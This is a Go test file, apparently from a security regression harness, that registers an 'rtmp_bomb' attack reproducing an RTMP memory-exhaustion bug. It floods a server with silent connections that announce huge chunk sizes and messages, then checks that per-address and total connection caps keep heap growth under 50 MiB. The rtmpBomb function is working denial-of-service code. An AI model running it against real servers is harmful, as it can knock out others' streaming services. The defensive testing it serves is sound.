package main

import (
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"sync"
	"time"
)

// rtmp_bomb: the RTMP memory bomb of issue #12. Unauthenticated
// connections each send the handshake, SetChunkSize 10 MiB and the header
// of a 16 MiB message, then nothing: gortmplib reserved 10 MiB for each
// before a byte of the message came (1 GB of heap for 100). Two waves:
//
//   - 100 from one address (the done-means of #12): the per-address cap
//     refuses all but 4, and those are closed for their chunk size;
//   - 100 from 100 loopback addresses (127.0.1.x), each with the largest
//     chunk size and message allowed before the stream key, held silent:
//     the total cap refuses all but 64, which hold under 64 KiB each.
//
// It fails if the server's Go heap (HeapSys, what it holds from the OS)
// grows by 50 MiB or more during either wave.
func init() {
	register(Attack{Name: "rtmp_bomb", Run: attackRTMPBomb})
}

func attackRTMPBomb(ctx context.Context, tg Target) (string, error) {
	before := measure(ctx, tg)
	one, err := rtmpWave(ctx, tg, 100, func(int) string { return "127.0.0.1" }, 10<<20, 16<<20-1)
	if err != nil {
		return "", err
	}
	many, err := rtmpWave(ctx, tg, 100, func(i int) string { return fmt.Sprintf("127.0.1.%d", i+1) }, 64<<10, 60<<10)
	if err != nil {
		return "", err
	}
	limit := fmt.Sprintf("RTMP connection cap 4/address: %d of 100 refused at once, %d closed for SetChunkSize 10 MiB (limit 64 KiB); "+
		"cap 64 in all (100 addresses): %d of 100 refused, %d held silent (heap %+.1f MiB)",
		one.refused, one.closed, many.refused, many.held, many.heapSys-before.HeapSysMiB)
	grew := max(one.heapSys, many.heapSys) - before.HeapSysMiB
	if grew >= 50 {
		return limit, fmt.Errorf("server heap grew by %.0f MiB (limit 50)", grew)
	}
	if one.refused < 90 || many.refused < 30 {
		return limit, errors.New("the connection caps did not refuse the flood")
	}
	return limit, nil
}

type waveResult struct {
	refused, closed, held int
	heapSys               float64 // the server's HeapSys while the wave held its connections
}

// rtmpWave opens n bomb connections, the i-th from address from(i), holds
// them 3 s, reads the server's heap, and closes them.
func rtmpWave(ctx context.Context, tg Target, n int, from func(int) string, chunkSize, msgLen uint32) (waveResult, error) {
	var (
		mu    sync.Mutex
		res   waveResult
		conns []net.Conn
		wg    sync.WaitGroup
		errs  []error
	)
	for i := range n {
		wg.Go(func() {
			c, state, err := rtmpBomb(ctx, tg.RTMP, from(i), chunkSize, msgLen)
			mu.Lock()
			defer mu.Unlock()
			if err != nil {
				errs = append(errs, err)
				return
			}
			conns = append(conns, c)
			switch state {
			case "refused":
				res.refused++
			case "sent":
				res.held++
			}
		})
	}
	wg.Wait()
	defer func() {
		for _, c := range conns {
			c.Close()
		}
	}()
	if len(errs) > 0 {
		return res, fmt.Errorf("%d of %d connections failed: %w", len(errs), n, errs[0])
	}
	// Let the server read what was sent, then see which are still open.
	sleepCtx(ctx, 3*time.Second)
	res.heapSys = measure(ctx, tg).HeapSysMiB
	for _, c := range conns {
		c.SetReadDeadline(time.Now().Add(10 * time.Millisecond))
		if _, err := c.Read(make([]byte, 1)); err != nil {
			var ne net.Error
			if !(errors.As(err, &ne) && ne.Timeout()) {
				mu.Lock()
				res.closed++
				mu.Unlock()
			}
		}
	}
	res.closed -= res.refused // the refused were closed too
	res.held -= res.closed
	return res, nil
}

// rtmpBomb sends one connection's bomb from local address from. state is
// "refused" when the server closed it before answering the handshake,
// "sent" when all was sent.
func rtmpBomb(ctx context.Context, addr, from string, chunkSize, msgLen uint32) (net.Conn, string, error) {
	d := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(from)}, Timeout: 5 * time.Second}
	c, err := d.DialContext(ctx, "tcp", addr)
	if err != nil {
		return nil, "", fmt.Errorf("dial from %s: %w", from, err)
	}
	c.SetDeadline(time.Now().Add(5 * time.Second))
	hello := make([]byte, 1+1536)
	hello[0] = 3
	if _, err := c.Write(hello); err != nil {
		return c, "refused", nil
	}
	s012 := make([]byte, 1+1536+1536)
	if _, err := io.ReadFull(c, s012); err != nil {
		return c, "refused", nil
	}
	msg := append([]byte(nil), s012[1:1+1536]...) // C2
	msg = append(msg, 0x02, 0, 0, 0, 0, 0, 4, 1, 0, 0, 0, 0)
	msg = binary.BigEndian.AppendUint32(msg, chunkSize)
	msg = append(msg, 0x03, 0, 0, 0, byte(msgLen>>16), byte(msgLen>>8), byte(msgLen), 20, 0, 0, 0, 0, 0x02)
	c.Write(msg)
	c.SetDeadline(time.Time{})
	return c, "sent", nil
}

// sleepCtx waits d or until ctx ends.
func sleepCtx(ctx context.Context, d time.Duration) {
	select {
	case <-ctx.Done():
	case <-time.After(d):
	}
}
